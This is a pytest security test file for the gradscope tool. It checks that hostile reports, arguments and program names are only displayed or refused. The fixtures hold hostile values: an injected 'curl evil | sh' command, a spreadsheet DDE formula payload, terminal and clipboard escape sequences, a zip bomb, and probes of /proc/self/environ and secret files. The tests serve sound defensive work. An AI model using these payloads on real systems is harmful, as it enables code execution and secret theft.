"""What a hostile file, text or argument can do: nothing but be shown, or be refused in one line."""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import json
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest

import gradscope
from gradscope.errors import GradscopeError, ReportError
from gradscope.escaping import as_json, for_terminal, own_style, visible
from gradscope.formats import DIAGNOSES, FORMATS, WORDS_ALONE
from gradscope.model import storage
from gradscope.model.report import Report
from gradscope.render import Options, render
from tests.fuzz.process import ran
from tests.hostile import (
    CLIPBOARD,
    ODD,
    SAVED,
    TEXTS,
    acting,
    bomb,
    cut,
    document,
    flipped,
    with_numbers,
    with_other_lists,
    with_other_types,
    with_texts,
)
from tests.looking import Done, Session
from tests.own_functions import function
from tests.program import Program
from tests.test_page import packed

QUICK = tuple(name for name in FORMATS if name not in ("svg", "png", "pdf"))
"""Formats that need no other program."""

ANSWERS = ("explain", "memory", "check", "backward --by term", "depends")
"""Commands that show what they saved again."""

EARLIER = "an earlier result\n"


def told(done: Done, statuses: tuple[int, ...] = (0, 2), color: bool = False) -> Done:
    """What any command may do: print what is harmless, and end as documented."""
    assert "Traceback" not in done.err, done.err
    assert done.status in statuses, done
    assert not acting(done.out, color), acting(done.out, color)
    assert not acting(done.err), acting(done.err)
    return done


def refused(done: Done) -> Done:
    """One line of what, one of what to do, each marked as ours."""
    told(done, (2,))
    assert all(line.startswith("gradscope: ") for line in done.err.splitlines()), done.err
    assert 1 <= done.err.count("\n") <= 2, done.err
    return done


def shown(session: Session, data: bytes, formats: tuple[str, ...] = QUICK) -> None:
    """Show a file in some formats; whatever happens, an output file is whole or as it was."""
    path = session.folder / "hostile.json"
    path.write_bytes(data)
    for format in formats:
        output = session.folder / f"kept.{format}"
        output.write_text(EARLIER, "utf-8")
        done = session.cli("show", str(path), "--format", format, "-o", str(output), "--all")
        if done.status:
            refused(done)
            assert output.read_text("utf-8") == EARLIER
        else:
            told(done)
            assert output.read_bytes() != EARLIER.encode()
            if format in (*QUICK, "svg"):
                written = output.read_text("utf-8")
                assert not acting(written), acting(written)
    told(session.cli("show", str(path), "--saved", "--values", "--color", "always"), color=True)


# ---------------------------------------------------------------- files


@pytest.mark.parametrize("name", SAVED)
def test_hostile_text_in_every_field_is_only_text(name: str, session: Session) -> None:
    for turn in range(len(TEXTS)):
        data = with_texts(name, turn)
        # In each turn another sixth of the formats: each has all texts, though not in all fields.
        sixth = slice(turn % 6, None, 6)
        shown(session, data, QUICK[sixth])
        # Only a report of the doctor's holds findings.
        statuses = (0, 1) if json.loads(data).get("observations") else (2,)
        for format in DIAGNOSES[sixth]:
            told(session.cli("doctor", "hostile.json", "--format", format), statuses)
        told(session.cli("diff", "hostile.json", "hostile.json"), (0, 1))
        for command in ANSWERS[sixth]:
            told(session.cli(*command.split(), "hostile.json"), (0, 1, 2))


@pytest.mark.parametrize("name", SAVED)
def test_hostile_text_is_drawn_as_a_picture(name: str, session: Session) -> None:
    at = SAVED.index(name)
    # Graphviz draws all formats from one source: of two files the others as well.
    shown(session, with_texts(name, 4 * (at % 2)), ("svg", *("png", "pdf")[at : at + 1]))
    told(session.cli("diff", "hostile.json", "hostile.json", "-o", "difference.svg"), (0, 1))
    picture = (session.folder / "kept.svg").read_text("utf-8")
    assert not acting(picture)
    assert "javascript:" not in "".join(re.findall(r'href="([^"]*)"', picture))


@pytest.mark.parametrize("odd", ODD)
def test_what_is_no_report_is_refused_in_a_line(odd: str, session: Session) -> None:
    path = session.folder / "odd.json"
    path.write_bytes(ODD[odd])
    for command in ("show", "doctor", *ANSWERS):
        done = refused(session.cli(*command.split(), str(path)))
        assert len(done.err) < 3_000


@pytest.mark.parametrize("name", SAVED)
def test_a_file_that_is_cut_off_is_refused(name: str, session: Session) -> None:
    path = session.folder / "cut.json"
    for step in range(20):
        for is_packed in (False, True):
            path.write_bytes(cut(name, step / 20, is_packed))
            refused(session.cli("show", str(path)))


@pytest.mark.parametrize("name", SAVED)
@pytest.mark.parametrize("change", [with_numbers, with_other_types, with_other_lists, flipped])
def test_a_changed_file_is_shown_or_refused(
    change: Callable[[str, int], bytes], name: str, session: Session
) -> None:
    path = session.folder / "changed.json"
    for seed in range(6):
        path.write_bytes(change(name, seed))
        done = told(session.cli("show", str(path), "--all"))
        if done.status:
            refused(done)
            continue
        # Of each seed other formats and commands: all meet each kind of change.
        third = slice(seed % 3, None, 3)
        formats: tuple[str, ...] = ("tree", "csv", "dot", "html")
        shown(session, path.read_bytes(), formats[third])
        for command in ("doctor", *ANSWERS)[third]:
            told(session.cli(*command.split(), str(path)), (0, 1, 2))
        told(session.cli("diff", str(path), str(path)), (0, 1))


@pytest.mark.parametrize("command", ["show", "doctor", *ANSWERS, "diff"])
def test_a_bomb_is_refused_before_it_is_kept(command: str, session: Session) -> None:
    path = session.folder / "bomb.json.gz"
    path.write_bytes(bomb(64 * 2**20))
    assert path.stat().st_size < 100_000
    arguments = [str(path)] * (2 if command == "diff" else 1)
    done = refused(session.cli(*command.split(), *arguments, "--max-size", "8M"))
    assert "holds more than 8,388,608 bytes of JSON" in done.err
    assert "--max-size 4GiB" in done.err


def test_a_size_can_be_allowed(session: Session, tmp_path: Path) -> None:
    path = tmp_path / "small.json"
    path.write_bytes(data := json.dumps(document("trace")).encode())
    refused(session.cli("show", str(path), "--max-size", str(len(data) - 1)))
    for size in (str(len(data)), "0.1M", "1 GiB", "2t"):
        assert session.cli("show", str(path), "--max-size", size).status == 0
    with pytest.raises(ReportError, match="holds more than 10 bytes"):
        gradscope.load(path, max_size=10)
    assert gradscope.load(path, max_size=None) == gradscope.load(path)
    for size in ("", "x", "-1", "1X", "1e3", "9" * 40):
        assert session.cli("show", str(path), "--max-size", size).status == 2


@pytest.mark.skipif(sys.platform == "win32", reason="there are no such devices")
def test_a_file_without_an_end_is_refused(session: Session) -> None:
    assert "holds more than" in refused(session.cli("show", "/dev/zero", "--max-size", "1M")).err


def test_blanks_without_end_are_only_long(session: Session) -> None:
    changed = document("trace")
    for origin in changed["graph"]["origins"]:
        origin["expression"] = "a" + " " * 300_000 + "b"
    shown(session, json.dumps(changed).encode(), ("tree", "dot"))


@pytest.mark.parametrize(
    ("name", "path", "value", "said"),
    [
        ("memory", "memory.kept.0.holders", [], "memory.kept[0].holders: expected `array` of len"),
        ("memory", "memory.kept.0.bytes", 2**63, "memory.kept[0].bytes: "),
        ("check", "checks.calls.0.nodes", [], "checks.calls[0].nodes: expected `array` of"),
        ("check", "checks.leaves.0.leaves", [], "checks.leaves[0].leaves: expected `array` of"),
        ("check", "checks.calls.0.inputs.0.error", -1.0, "expected `float` >= 0.0"),
        ("explain", "explanation.ends.0.leaf", 7, "explanation.ends.leaf: 7 is not an index"),
        ("explain", "explanation.node", 99, "explanation.node"),
        ("explain", "explanation.steps.0.rule", 99, "99 is not an index"),
        ("explain", "explanation.ends.0.paths.0.contribution.state", "zero", "is zero with norm"),
        ("explain", "explanation.ends.0.count", "NaN", "is no number of paths"),
        ("explain", "explanation.ends.0.paths.0.root", 7, "is not an index of graph.roots"),
        ("explain", "explanation.steps.0.locals.0.edge", 4, "edge 4 does not leave node 0"),
        ("explain", "explanation.steps.0.locals.0.output", 9, "is not an index of its node's"),
        ("explain", "explanation.steps.0.locals.0.shape", [3, 3], "3 × 3 has 1 values"),
        ("jacobian", "explanation.weights.total", 0, "is 0, and there are 1 terms"),
        ("jacobian", "explanation.weights.terms", [], "has no rows of the Jacobian, and does"),
        ("split", "split.pieces", [], "split.pieces: expected `array` of length >= 1"),
        ("split", "split.leaves.0.leaf", 9, "9 is not an index of graph.leaves"),
        ("split", "split.leaves.0.norms.0", -1.0, "expected `float` >= 0.0"),
        ("split", "split.leaves.0.norms", [1.0], "has 1 norms of 4 pieces"),
        ("terms", "split.nodes.0.node", 99, "99 is not an index of graph.nodes"),
        ("terms", "split.nodes.0.norms", [1.0], "split: has 1 norms"),
        ("split", "split.leaves.0.products", [], "does not compare each of 4 pieces"),
        ("depends", "dependence.of.node", 99, "99 is not an index of graph.nodes"),
        ("depends", "dependence.on.axis", 2, "2 is not an index of its shape"),
        ("depends", "dependence.on.shape", [0, 3], "expected `int` >= 1"),
        ("depends", "dependence.rows", [0, 9], "9 is not an index of its axis"),
        ("depends", "dependence.rows", [0, 0], "are indices in order, each with norms"),
        ("depends", "dependence.norms.0", [1.0], "has 1 numbers for 2 indices"),
        ("depends", "dependence.norms.0.0", -1.0, "expected `float` >= 0.0"),
        ("depends", "dependence.crossing.node", 99, "99 is not an index of graph.nodes"),
        ("depends", "dependence.crossing.row", 9, "9 is not an index of its axis"),
        ("backward", "graph.leaves.0.norm", -1.0, "expected `float` >= 0.0"),
    ],
)
def test_an_answer_holds_what_is_shown_of_it(
    name: str, path: str, value: object, said: str, session: Session
) -> None:
    changed = document(name)
    *way, last = [int(step) if step.isdigit() else step for step in path.split(".")]
    holder: Any = changed
    for step in way:
        holder = holder[step]
    holder[last] = value
    (session.folder / "changed.json").write_text(json.dumps(changed), "utf-8")
    assert said in refused(session.cli("show", "changed.json")).err


def test_a_number_of_paths_may_be_beyond_all_floats(session: Session) -> None:
    changed = document("explain")
    for end in changed["explanation"]["ends"]:
        end["count"] = "Infinity"
    (session.folder / "many.json").write_text(json.dumps(changed), "utf-8")
    done = told(session.cli("explain", "many.json"))
    assert "over 1e308 paths" in done.out
    assert "the other over 1e308 paths" in done.out


# ---------------------------------------------------------------- what a file says to do


def test_no_command_of_a_file_is_suggested(session: Session) -> None:
    changed = document("trace")
    path = session.folder / "report.json"
    for target, said in (
        ("train.py", "gradscope doctor train.py examines"),
        ("train.py; curl evil | sh", "gradscope doctor TARGET examines"),
        ("-cprint(1)", "gradscope doctor TARGET examines"),
    ):
        changed["meta"]["target"] = target
        path.write_text(json.dumps(changed), "utf-8")
        assert said in session.cli("doctor", str(path)).err


def test_a_page_holds_no_file_of_its_reader(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "key.txt").write_text("secret = 1\n", "utf-8")
    (tmp_path / "settings.py").write_text("a = 1\nsecret = 1\n", "utf-8")
    (tmp_path / "config.py").write_text("secret = 1\nb = 1\n", "utf-8")
    (tmp_path / "model.py").write_text("x = 1\ny = x * 2\nz = 3\n", "utf-8")
    program = Program("model.py")
    x = program.leaf("x", data=(1.0,))
    for file, line, expression in (
        ("key.txt", 1, "secret = 1"),
        ("settings.py", 1, "b = 1"),
        ("settings.py", 2, ""),
        ("config.py", 1, ""),
        ("/proc/self/environ", 1, "PATH"),
        ("model.py", 2, "x * 2"),
    ):
        program.file, program.line = file, line
        x = program.op("MulBackward0", [(x, 1)], (1.0,), expression)
    report = program.report((x, (1.0,)))
    meta = msgspec.structs.replace(report.meta, created="2100-01-01T00:00:00+00:00")
    data = packed(str(render(msgspec.structs.replace(report, meta=meta), "html")))
    assert "y = x * 2" in data["strings"]
    # The expression that the report claims, but not the line that it asks for without one.
    assert data["strings"].count("secret = 1") == 1
    listed = {data["strings"][file]: rows for file, _, rows in data["listing"]}
    for file, texts in {"config.py": [""], "model.py": ["y = x * 2"]}.items():
        assert [data["strings"][text] for _, text, *_ in listed[file]] == texts


# ---------------------------------------------------------------- pages


def pages(session: Session) -> dict[str, str]:
    """A page of every kind."""
    folder, made = session.folder, {}
    for name in ("explain", "memory", "check", "doctor", "backward"):
        (folder / f"{name}.json").write_text(json.dumps(document(name)), "utf-8")
        command = name if name in ANSWERS else "show"
        assert session.cli(command, f"{name}.json", "-o", f"{name}.html", "-q").status in (0, 1)
        made[name] = (folder / f"{name}.html").read_text("utf-8")
    assert session.cli("diff", "check.json", "doctor.json", "-o", "difference.html").status in (
        0,
        1,
    )
    return {**made, "diff": (folder / "difference.html").read_text("utf-8")}


def test_every_page_has_a_policy_that_lets_nothing_happen(session: Session) -> None:
    for name, page in pages(session).items():
        (content,) = re.findall(
            r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page
        )
        policy = dict(part.strip().split(" ", 1) for part in html.unescape(content).split(";"))
        assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == "'none'", (
            name
        )
        scripts = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
        hashes = [
            base64.b64encode(hashlib.sha256(one.encode()).digest()).decode() for one in scripts
        ]
        assert policy.get("script-src", "") == " ".join(f"'sha256-{one}'" for one in hashes)
        assert page.index("Content-Security-Policy") < page.index("<title>")
        markup = re.sub(r"<(script|style)\b.*?</\1>", "", page, flags=re.DOTALL)
        # The drawing in an explanation links to the source.
        links = "" if name == "explain" else "a|"
        assert not re.search(rf"<({links}link|base|form|iframe|object|img)\b", markup)


def test_what_a_page_says_when_it_is_cut_off_comes_first(session: Session) -> None:
    page = pages(session)["backward"]
    body = page.index("<body>")
    assert page[body:].startswith('<body>\n<p id="notice">This page draws a graph')
    assert body < 2_000 and page.index("<style>") > body


# ---------------------------------------------------------------- spreadsheets


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (" =1+1", "' =1+1"),
        ("\t=1+1", "\\t=1+1"),
        ("\r=1+1", "\\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ('"=1', '"=1'),
        ("-0.5", "-0.5"),
        ("+1e-3", "+1e-3"),
        ("-", "'-"),
        ("a;=1+1", "a;=1+1"),
        ("layer.0.weight", "layer.0.weight"),
    ],
)
def test_a_name_is_no_formula(name: str, cell: str) -> None:
    program = Program()
    x = program.leaf(name, data=(1.0,))
    y = program.op("MulBackward0", [(x, 2)], (1.0,))
    text = str(render(program.report((y, (-0.5,))), "csv"))
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["name"] == cell
    assert float(row["gradient"]) == 1.0
    # Where the decimal sign is a comma, fields are parted by semicolons.
    elsewhere = [field for line in csv.reader(io.StringIO(text), delimiter=";") for field in line]
    assert not any(field.lstrip("\"'").startswith("=") for field in elsewhere if ";" in name)


# ---------------------------------------------------------------- arguments

ACTING = f"{CLIPBOARD}\x1b[2J\x9b\u202e\ngradscope: forged\udcff"

ARGUMENTS = [
    [ACTING],
    [f"-{ACTING}"],
    ["show", ACTING],
    ["show", f"--{ACTING}"],
    ["show", "trace.json", "--path", ACTING],
    ["show", "trace.json", "--focus", ACTING],
    ["show", "trace.json", "--sort", ACTING],
    ["show", "trace.json", "--width", ACTING],
    ["show", "trace.json", "--call", ACTING],
    ["show", "backward.json", "--top", "9" * 30],
    ["show", "backward.json", "--depth", "9" * 30],
    ["show", "trace.json", "--max-size", ACTING],
    ["show", "trace.json", "-o", ACTING],
    ["show", "trace.json", "-o", f"{'x' * 5_000}.dot"],
    ["show", "trace.json", "-o", f"{ACTING}.dot"],
    ["show", "x" * 5_000],
    ["explain", "explain.json", "--width", "9" * 12],
    ["doctor", f"{ACTING}.json"],
    ["doctor", "doctor.json", "--steps", ACTING],
    ["doctor", "doctor.json", "--steps", "²"],
    ["diff", "trace.json", f"'{ACTING}"],
    ["rule", ACTING],
    ["trace", ACTING],
    ["trace", f"{ACTING}.py::f"],
    ["trace", "-m", ACTING],
    ["trace", "-c", "x", "--let", ACTING],
    ["trace", "-c", "x", "--let", f"{ACTING}=1"],
    ["backward", "-c", "x*2", "--let", f"x={ACTING}"],
    ["backward", "-c", "x*2", "--let", "x=1", "--gradient", ACTING],
    ["backward", "-c", "x*2", "--let", "x=1", "--gradient", f"@{ACTING}.npy"],
    ["backward", "-c", "x*2", "--let", "x=1", "--gradient", "onehot:" + "9" * 30],
    ["backward", "-c", "x*2", "--let", "x=1", "--root", ACTING],
    ["backward", "-c", "x*2", "--let", "x=1", "--create-graph", ACTING],
    ["explain", "-c", "x*2", "--let", "x=1", "--leaf", ACTING],
    ["explain", "-c", "x*2", "--let", "x=1", "--node", "9" * 30],
]


@pytest.mark.parametrize("arguments", ARGUMENTS, ids=lambda one: ascii(" ".join(one))[:60])
def test_an_argument_is_only_quoted(arguments: list[str], session: Session) -> None:
    for name in ("trace", "backward", "explain", "doctor"):
        (session.folder / f"{name}.json").write_text(json.dumps(document(name)), "utf-8")
    if not any("\x00" in one for one in arguments):
        done = told(session.run(arguments), (0, 1, 2))
        assert "\ngradscope: forged" not in done.err
        assert len(done.err) < 8_000


REMOVED = """
import os, sys
os.mkdir("gone")
os.chdir("gone")
os.rmdir("../gone")
from gradscope.cli import run
for format in ("tree", "dot", "html", "text", "github", "gcc"):
    command = "show" if format in ("tree", "dot", "html") else "doctor"
    result = run([command, sys.argv[1], "--format", format])
    assert result.status in (0, 1), (format, result)
assert run(["trace"]).status == 2
"""


def test_a_removed_folder_is_no_fault(process: Session) -> None:
    path = process.folder / "doctor.json"
    path.write_text(json.dumps(document("doctor")), "utf-8")
    command = [sys.executable, "-c", REMOVED, str(path)]
    done = ran(command, process.folder)
    assert done.returncode == 0, done.stderr


def test_a_name_given_to_leaf_runs_nothing(session: Session) -> None:
    name = "open('acted', 'w')"
    done = refused(session.cli("explain", "-c", "x*2", "--let", "x=1", "--leaf", name))
    assert "no tensor called" in done.err
    assert not (session.folder / "acted").exists()


@pytest.mark.parametrize("option", ["--let", "--root", "--gradient"])
def test_what_runs_code_says_so(option: str, session: Session) -> None:
    (entry,) = re.findall(
        rf"^  {option} .*?(?=^  -)", session.cli("backward", "--help").out, re.M | re.S
    )
    assert "run as Python code" in " ".join(entry.split())


# ---------------------------------------------------------------- programs

PROGRAM = r"""
import torch
from torch import nn

NAME = "\x1b]52;c;eA==\x07\x1b[2J\x9b\u202e\ngradscope: forged\r\x00"
SURROGATE = "\ud800"

class Odd(Exception):
    def __str__(self):
        raise RuntimeError("no words")
Odd.__name__ = "Odd\x1b[2J"
def fail():
    if FAILS:
        raise Odd

DOUBLE
Evil = type("Evil\x1b[2J\u202e\nFunction", (Double,), {})

class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.register_parameter(NAME, nn.Parameter(torch.ones(2)))
        self.add_module(SURROGATE, nn.Linear(2, 2))
    def forward(self, x):
        for layer in self._modules.values():
            x = layer(x)
        return x * next(iter(self._parameters.values()))
Net.__name__ = Net.__qualname__ = "Net\x1b[2J"

FAILS = False
net = Net()
globals()["variable" + NAME] = first = torch.ones(2, requires_grad=True)
globals()[5] = second = torch.ones(2, requires_grad=True)
globals()[SURROGATE] = third = torch.ones(2, requires_grad=True)
KEY = "\x1b[2Jkey"
held = {NAME: torch.ones(2, requires_grad=True), KEY: torch.ones(2, requires_grad=True)}
code = compile("def f(x):\n    return torch.sin(x)\n", "file\x1b[2J\u202e.py", "exec")
made = {"torch": torch}
exec(code, made)
h = made["f"](first + second + third + next(iter(held.values())) * held[KEY])
loss = net(Evil.apply(h)).sum()
"""
PROGRAM = PROGRAM.replace("DOUBLE", function("Double", "x * 2", "fail(); grad * 2", keeps="x"))
RUNS = PROGRAM + "loss.backward()\n"
FAILS = f"{PROGRAM}FAILS = True\ntry:\n    loss.backward()\nexcept Odd:\n    print('caught')\n"

COMMANDS = [
    ["trace"],
    ["backward", "--saved", "--values", "--all"],
    ["backward", "--format", "json"],
    ["explain"],
    ["memory"],
    ["check"],
    ["depends", "--on", "second"],
    ["doctor"],
    ["doctor", "--format", "json"],
    ["doctor", "--format", "github"],
    ["doctor", "--format", "gcc"],
]


@pytest.mark.parametrize("program", ["runs", "fails"])
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_names_of_a_program_are_only_text(
    command: list[str], program: str, session: Session
) -> None:
    path = session.write(RUNS if program == "runs" else FAILS)
    # What may not be called is refused where each node is called alone.
    statuses = (0, 1, 2) if command[0] == "depends" else (0, 1)
    done = told(session.cli(*command, str(path)), statuses)
    assert "\ngradscope: forged" not in done.out + done.err
    assert "caught" not in done.out + done.err or program == "fails"


def test_a_lone_surrogate_is_shown_in_every_format(session: Session) -> None:
    path = str(session.write(RUNS))
    report = session.look_at(path)
    names = {name for leaf in report.graph.leaves for name in leaf.names}
    assert {"\\ud800.weight", "\\ud800.bias", "\\ud800"} <= names
    for suffix in (
        ".json.gz",
        *(entry.suffixes[0] for entry in FORMATS.values() if entry.suffixes),
    ):
        output = session.folder / f"graph{suffix}"
        assert told(session.cli("backward", path, "-o", str(output))).status == 0
        assert output.stat().st_size
    for format in QUICK:
        told(session.cli("show", "graph.json", "--format", format))


def test_a_saved_surrogate_is_visible_and_stays_so() -> None:
    program = Program("\udcff.py")
    x = program.leaf("\ud800", data=(1.0,))
    y = program.op("MulBackward0", [(x, 2)], (1.0,), "x * '\ud800'")
    report = program.report((y, (1.0,)), notes=["\ud800"])
    again = storage.decode(storage.encode(report))
    assert again.graph.leaves[0].names == ("\\ud800",)
    assert again.notes == ("\\ud800",)
    assert again.meta.target == "\\udcff.py"
    assert storage.decode(storage.encode(again)) == again
    assert again.graph.nodes == report.graph.nodes


def test_an_error_of_ours_is_harmless_in_a_traceback() -> None:
    for error in (GradscopeError(TEXTS[0], TEXTS[3]), ReportError("x" * 100_000)):
        assert not acting(str(error))
        assert "\n" not in error.what + "".join(error.hints)
        assert len(str(error)) < 5_000


def test_a_diff_takes_nothing_of_ours_from_the_folder(process: Session) -> None:
    for name in ("click", "msgspec", "gradscope", "torch_is_not_this"):
        process.write("raise SystemExit('taken from the folder')\n", f"{name}.py")
    process.write("import torch\n(torch.ones(2, requires_grad=True) * 2).sum().backward()\n")
    (process.folder / "trace.json").write_text(json.dumps(document("trace")), "utf-8")
    # The tests' own commands run with python -m, which puts the folder first.
    code = "import sys; del sys.path[0]; from gradscope.cli import entry; entry()"
    command = [sys.executable, "-c", code, "diff", "program.py", "trace.json"]
    done = ran(command, process.folder)
    assert "different programs" in done.stdout, done.stdout + done.stderr


# ---------------------------------------------------------------- the escapes themselves


@pytest.mark.parametrize("text", TEXTS)
def test_what_is_made_visible_stays_so(text: str) -> None:
    seen = visible(text)
    assert not acting(seen + "\n")
    assert visible(seen) == seen


def test_what_is_ours_survives_the_gate() -> None:
    own = own_style("\x1b[1;38;5;12m") + "text" + own_style("\x1b[0m")
    assert for_terminal(f"a\tb\n{own}\n\n") == f"a\tb\n{own}\n\n"
    assert for_terminal("\x1b[8mhidden") == "\\x1b[8mhidden"
    assert for_terminal("a\r\nb\x85c\u2028d") == "a\\r\nb\\x85c\\u2028d"


def test_json_keeps_its_data() -> None:
    for text in (*TEXTS, "größe", "名前", "👩‍💻", "\U000e0041"):
        encoded = as_json(json.dumps(text, ensure_ascii=False))
        assert json.loads(encoded) == text
        assert not acting(encoded)
    assert as_json('"größe 名前 👍"') == '"größe 名前 👍"'


@pytest.mark.parametrize("format", QUICK)
def test_the_gate_changes_nothing_of_ours(format: str) -> None:
    for name in SAVED:
        report = msgspec.json.decode(json.dumps(document(name)).encode(), type=Report)
        if report.dependence is not None and format in WORDS_ALONE["depends"]:
            continue
        text = render(report, format, Options(color=format == "tree"))
        if isinstance(text, str):
            assert for_terminal(text) == text
